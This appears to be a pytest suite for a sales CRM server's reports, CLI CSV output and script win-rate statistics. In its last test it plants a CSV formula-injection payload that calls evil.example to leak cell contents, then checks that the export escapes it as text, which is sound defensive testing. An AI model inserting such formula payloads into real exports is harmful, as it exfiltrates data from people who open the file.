# SPDX-License-Identifier: MIT
"""Team reports, script win rates and the pulled call history, against hand-worked numbers.

Seven calls by two managers on six leads around NOW (25 Nov 2026 12:00 UTC, a Wednesday of
ISO week 48), all pushed through the real API; each expected figure is worked out in the
comments next to it.
"""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from salesdesk.domain.vocabulary import Source
from salesdesk.protocol.models import OutcomeRecordData, ScriptStatsData
from server.cli import main as server_cli
from server.config import ServerSettings
from server.http.app import create_app
from server.models import ScriptStatsRow
from server.services.stats import refresh_script_stats
from tests.conftest import NOW
from tests.unit.server.conftest import ServerEnv
from tests.unit.server.test_push import outcome, push

TODAY = {"since": "2026-11-25", "until": "2026-11-25"}


def at(env: ServerEnv, lead: str, hours_before: float, **data: Any) -> dict[str, Any]:
    started = NOW - timedelta(hours=hours_before)
    return outcome(lead, env, started_at=started.isoformat(), **data)


def lead_at(env: ServerEnv, who: str, hours_before: float, **draft: Any) -> str:
    env.clock.now = NOW - timedelta(hours=hours_before)
    [lead] = env.add_leads(1, who, **draft)
    env.clock.now = NOW
    return lead


@pytest.fixture
def team(env: ServerEnv) -> dict[str, Any]:
    env.add_user("anna")
    env.add_user("bob")
    env.add_user("boss", role="admin")
    web = {"source": Source.WEBSITE_FORM}
    expo = {"source": Source.EXHIBITION, "event_name": "Expo A"}
    leads = {
        "L1": lead_at(env, "anna", 5, **web),  # 07:00
        "L2": lead_at(env, "anna", 4, **expo),  # 08:00
        "L3": lead_at(env, "anna", 120, **web),  # 20 Nov 12:00
        "L4": lead_at(env, "anna", 2, source=Source.SOCIAL),  # 10:00, never called
        "L5": lead_at(env, "bob", 6, **web),  # 06:00
        "L6": lead_at(env, "bob", 3, **expo),  # 09:00
    }
    anna, bob = env.login("anna"), env.login("bob")
    mine = [
        # 1: L1 08:00 (60 min after arrival), lost on price
        at(env, leads["L1"], 4, result="lost", loss_reason_id="price_high",
           objections=["price-expensive"], answers_used=["price-expensive-roi"]),
        # 2: L2 08:30 (30 min), qualified after price and authority objections
        at(env, leads["L2"], 3.5, result="qualified",
           objections=["price-expensive", "authority-consult"],
           answers_used=["price-expensive-roi"]),
        # 3: L3 21 Nov 12:00 (first call, 1,440 min), handed to nurturing until 23 Nov
        at(env, leads["L3"], 96, result="nurture",
           nurture_until=(NOW - timedelta(days=2)).isoformat()),
        # 4: L3 back, 11:00, qualified
        at(env, leads["L3"], 1, result="qualified"),
    ]  # fmt: skip
    theirs = [
        # 5: L5 07:00 (60 min), no answer
        at(env, leads["L5"], 5, disposition="no_answer"),
        # 6: L5 10:00 lost to a competitor
        at(env, leads["L5"], 2, result="lost", loss_reason_id="chose_competitor",
           note="Signed with the incumbent", objections=["competitor-already"]),
        # 7: L6 09:30 (30 min) nurtured for a month
        at(env, leads["L6"], 2.5, result="nurture",
           nurture_until=(NOW + timedelta(days=30)).isoformat()),
    ]  # fmt: skip
    results = push(env, anna, *mine) + push(env, bob, *theirs)
    assert [r["status"] for r in results] == ["applied"] * 7, results
    return {
        "leads": leads,
        "anna": anna,
        "admin": env.login("boss"),
        "mine": [m["entity_id"] for m in mine],
        "theirs": [m["entity_id"] for m in theirs],
    }


def report(env: ServerEnv, team: dict[str, Any], name: str, **params: str) -> list[list[Any]]:
    response = env.client.get(f"/api/v1/reports/{name}", params=params, headers=team["admin"])
    assert response.status_code == 200, response.text
    body = response.json()
    rows: list[list[Any]] = body["rows"]
    assert body["report"] == name
    assert all(len(row) == len(body["columns"]) for row in rows)
    return rows


def test_loss_reasons(env: ServerEnv, team: dict[str, Any]) -> None:
    # calls 1 and 6 were lost today, both on website leads: half each
    rows = report(env, team, "loss-reasons", **TODAY)
    assert sorted(rows) == [
        ["website_form", "Chose a competitor", 1, 50.0],
        ["website_form", "Price too high / found cheaper", 1, 50.0],
    ]
    assert report(env, team, "loss-reasons", manager="anna") == [
        ["website_form", "Price too high / found cheaper", 1, 100.0]
    ]
    assert sorted(report(env, team, "loss-reasons", language="ru", **TODAY)) == [
        ["website_form", "Выбрали конкурента", 1, 50.0],
        ["website_form", "Дорого / нашли дешевле", 1, 50.0],
    ]
    assert sorted(report(env, team, "loss-reasons", by="week"))[0][0] == "2026-W48"
    assert report(env, team, "loss-reasons", by="month", source="exhibition") == []


def test_objections(env: ServerEnv, team: dict[str, Any]) -> None:
    # six calls today (call 3 was on 21 Nov): price on 1 and 2, authority on 2, competitor on 6
    assert report(env, team, "objections", **TODAY) == [
        ["price", 2, 33.3],
        ["authority", 1, 16.7],
        ["competitor", 1, 16.7],
    ]
    # anna made three of them, bob three
    assert report(env, team, "objections", by="manager", **TODAY) == [
        ["anna", "price", 2, 66.7],
        ["anna", "authority", 1, 33.3],
        ["bob", "competitor", 1, 33.3],
    ]


def test_conversion(env: ServerEnv, team: dict[str, Any]) -> None:
    # arrived today: L1, L5 (web, both lost), L2 (expo, converted), L6 (expo, nurturing),
    # L4 (social, untouched); L3 arrived on 20 Nov
    assert sorted(report(env, team, "conversion", **TODAY)) == [
        ["exhibition", 2, 1, 50.0, 1, 0, 0],
        ["social", 1, 0, 0.0, 0, 0, 1],
        ["website_form", 2, 0, 0.0, 0, 2, 0],
    ]
    assert report(env, team, "conversion", by="event") == [["Expo A", 2, 1, 50.0, 1, 0, 0]]
    # all time, website: L1, L3 (converted), L5
    web = report(env, team, "conversion", source="website_form")
    assert web == [["website_form", 3, 1, 33.3, 0, 2, 0]]
    assert report(env, team, "conversion", manager="bob", source="social") == []


def test_speed_to_lead(env: ServerEnv, team: dict[str, Any]) -> None:
    # first called today: anna L1 60, L2 30 → median 45, p90 (rank 2 of 2) 60; L4 waits
    # bob L5 60, L6 30 → the same; L3's first call was on 21 Nov
    assert report(env, team, "speed-to-lead", **TODAY) == [
        ["anna", 2, 45.0, 60.0, 1],
        ["bob", 2, 45.0, 60.0, 0],
    ]
    # all time, anna: 30, 60, 1,440 → median 60, p90 (rank 3 of 3) 1,440
    assert report(env, team, "speed-to-lead", manager="anna") == [["anna", 3, 60.0, 1440.0, 1]]
    # by source today: expo L2 30, L6 30; web L1 60, L5 60; the social L4 still waits
    assert report(env, team, "speed-to-lead", by="source", **TODAY) == [
        ["exhibition", 2, 30.0, 30.0, 0],
        ["social", 0, None, None, 1],
        ["website_form", 2, 60.0, 60.0, 0],
    ]


def test_nurture(env: ServerEnv, team: dict[str, Any]) -> None:
    # L3 handed off on 21 Nov and came back qualified; L6 handed off today, not back yet
    assert sorted(report(env, team, "nurture")) == [
        ["exhibition", 1, 0, 0.0, 0, None],
        ["website_form", 1, 1, 100.0, 1, 100.0],
    ]
    assert report(env, team, "nurture", **TODAY) == [["exhibition", 1, 0, 0.0, 0, None]]


def test_reports_are_for_admins_and_refuse_bad_filters(
    env: ServerEnv, team: dict[str, Any]
) -> None:
    url = "/api/v1/reports/conversion"
    assert env.client.get(url).status_code == 401
    assert env.client.get(url, headers=team["anna"]).status_code == 403
    admin = team["admin"]
    assert env.client.get("/api/v1/reports/nope", headers=admin).status_code == 404
    for params, message in (
        ({"by": "colour"}, "groups by one of"),
        ({"manager": "nobody"}, "no user"),
        ({"source": "carrier_pigeon"}, "unknown source"),
        ({"since": "2026-11-25", "until": "2026-11-01"}, "ends before it starts"),
    ):
        response = env.client.get(url, params=params, headers=admin)
        assert response.status_code == 422 and message in response.json()["detail"], params
    assert env.client.get(url, params={"since": "yesterday"}, headers=admin).status_code == 422
    # an empty period is an empty table, not an error
    assert report(env, team, "conversion", since="2020-01-01", until="2020-01-31") == []


def test_the_cli_prints_tables_and_csv(
    env: ServerEnv, team: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    database = env.engine.url.render_as_string(hide_password=False)
    assert server_cli(["--database", database, "report", "conversion", "--by", "event"]) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[0] == "Lead to sale conversion by event"
    assert table[1].split() == ["event", "leads", "converted", "conversion", "%", "nurturing",
                                "disqualified", "open"]  # fmt: skip
    assert table[3].split() == ["Expo", "A", "2", "1", "50.0", "1", "0", "0"]
    assert server_cli(["--database", database, "report", "nurture", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0][:3] == ["source", "handed off", "returned"]
    assert sorted(rows[1:]) == [
        ["exhibition", "1", "0", "0.0", "0", ""],
        ["website_form", "1", "1", "100.0", "1", "100.0"],
    ]
    code = server_cli(["--database", database, "report", "objections", "--manager", "nobody"])
    assert code == 1 and "no user 'nobody'" in capsys.readouterr().err


def test_script_win_rates_are_published_and_pulled(env: ServerEnv, team: dict[str, Any]) -> None:
    with env.engine.begin() as connection:
        assert refresh_script_stats(connection, NOW) == ["b2b-discovery", "b2b-discovery-ru"]
    with env.engine.begin() as connection:
        assert refresh_script_stats(connection, NOW) == []  # nothing new: nothing published
    changes, cursor = env.pull_all(team["anna"])
    [stats] = [
        ScriptStatsData.model_validate(c["data"])
        for c in changes
        if c["entity"] == "script_stats" and c["id"] == "b2b-discovery"
    ]
    # the roi answer: calls 1 (lost) and 2 (qualified); price: the same two calls
    assert stats.answers["price-expensive-roi"].model_dump() == {"calls": 2, "won": 1, "lost": 1}
    assert stats.objections["price-expensive"].model_dump() == {"calls": 2, "won": 1, "lost": 1}
    assert stats.objections["authority-consult"].model_dump() == {"calls": 1, "won": 1, "lost": 0}
    assert stats.objections["competitor-already"].model_dump() == {"calls": 1, "won": 0, "lost": 1}
    assert "need-not-now" not in stats.objections
    # a new call changes the figures: a new version reaches the feed
    push(env, team["anna"], at(env, team["leads"]["L4"], 0.5, result="qualified",
                               answers_used=["price-expensive-roi"]))  # fmt: skip
    with env.engine.begin() as connection:
        assert refresh_script_stats(connection, NOW) == ["b2b-discovery"]
    later, _ = env.pull_all(team["anna"], cursor)
    [update] = [c for c in later if c["entity"] == "script_stats"]
    assert update["version"] == 2
    assert update["data"]["answers"]["price-expensive-roi"] == {"calls": 3, "won": 2, "lost": 1}


def test_the_server_refreshes_the_figures_on_its_own(env: ServerEnv, team: dict[str, Any]) -> None:
    settings = ServerSettings(database_url="(given engine)", stats_interval=timedelta(minutes=5))
    with TestClient(create_app(settings, env.engine, clock=env.clock)) as client:
        assert client.get("/api/v1/sync/pull", headers=team["anna"]).status_code == 200
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            with env.engine.connect() as connection:
                if connection.scalar(select(ScriptStatsRow.version).where(
                        ScriptStatsRow.script_id == "b2b-discovery")):  # fmt: skip
                    break
            time.sleep(0.05)
        else:
            pytest.fail("the figures were not computed after a pull")


def test_a_manager_pulls_back_only_their_own_calls(env: ServerEnv, team: dict[str, Any]) -> None:
    changes, _ = env.pull_all(team["anna"])
    pulled = {
        c["id"]: OutcomeRecordData.model_validate(c["data"])
        for c in changes
        if c["entity"] == "call_outcome"
    }
    assert set(pulled) == set(team["mine"])
    first = pulled[team["mine"][0]]
    assert (first.result.value, first.loss_reason_id, first.answers_used) == (
        "lost",
        "price_high",
        ["price-expensive-roi"],
    )


def test_report_csv_writes_a_formula_as_text(
    env: ServerEnv, team: dict[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by the trust probe: an event name a manager set reached the CSV as a live
    formula (`=HYPERLINK(…)`); a spreadsheet opening the report would have run it."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Expo")'
    lead_at(env, "anna", 2, source=Source.EXHIBITION, event_name=hostile)
    lead_at(env, "anna", 2, source=Source.EXHIBITION, event_name="-2+3")
    database = env.engine.url.render_as_string(hide_password=False)
    args = ["--database", database, "report", "conversion", "--by", "event", "--format", "csv"]
    assert server_cli(args) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    events = {row[0] for row in rows[1:]}
    assert "'" + hostile in events and "'-2+3" in events and "Expo A" in events
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
